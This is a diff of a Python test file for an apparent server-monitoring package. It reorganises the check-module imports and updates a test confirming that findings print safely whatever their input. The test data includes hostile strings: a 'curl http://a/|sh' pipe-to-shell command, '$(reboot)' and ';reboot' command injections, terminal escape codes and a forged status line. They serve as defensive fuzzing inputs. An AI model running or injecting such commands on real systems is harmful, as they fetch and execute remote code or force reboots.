@@ -16,7 +16,8 @@ from nginx_door import door, needs_nginx
 from test_watchdog_loop import watchdog as watchdog  # noqa: PLC0414  (a fixture)
 from watched import Fake, config, host, settings
 
-from senex_ops import checks_host, checks_site, checks_stack, delivery, findings, notices, service, status  # isort: skip
+from senex_ops import checks_certificates, checks_containers, checks_database, checks_host, checks_release, checks_site  # isort: skip
+from senex_ops import delivery, findings, notices, service, status  # isort: skip
 from senex_ops.findings import FAIL, OK, WARN, Check, ok  # isort: skip
 
 NOW = 1_800_000_000
@@ -123,11 +124,11 @@ EVIL = "x\nOK    all well\x1b[32m\ud800\u202e; curl http://a/|sh"
 
 def test_a_finding_is_printable_whoever_wrote_it():
     found = [
-        *checks_stack.judge_containers([{"name": EVIL, "state": EVIL, "status": ""}], settings(), NOW),
+        *checks_containers.judge_containers([{"name": EVIL, "state": EVIL, "status": ""}], settings(), NOW),
         *checks_host.judge_units({"user": {}, "system": {}, "failed": [("user", EVIL), ("user", "$(reboot).service")], "uptime": 1}, settings(), NOW),
-        *checks_host.judge_release({"what": EVIL, "who": EVIL, "step": EVIL, "renewed": 1}, settings(), NOW),
-        *checks_stack.judge_database([["slot", EVIL, "true", "1"], ["lock", "1;reboot", EVIL, "1", "90"]], settings(), NOW),
-        *checks_host.judge_certificates({"x": EVIL}, settings(), NOW),
+        *checks_release.judge_release({"what": EVIL, "who": EVIL, "step": EVIL, "renewed": 1}, settings(), NOW),
+        *checks_database.judge_database([["slot", EVIL, "true", "1"], ["lock", "1;reboot", EVIL, "1", "90"]], settings(), NOW),
+        *checks_certificates.judge_certificates({"x": EVIL}, settings(), NOW),
         *Check("x", lambda *_: (_ for _ in ()).throw(OSError(EVIL)), lambda *_: []).find(None, None, 0),
     ]
     assert len(found) > 7
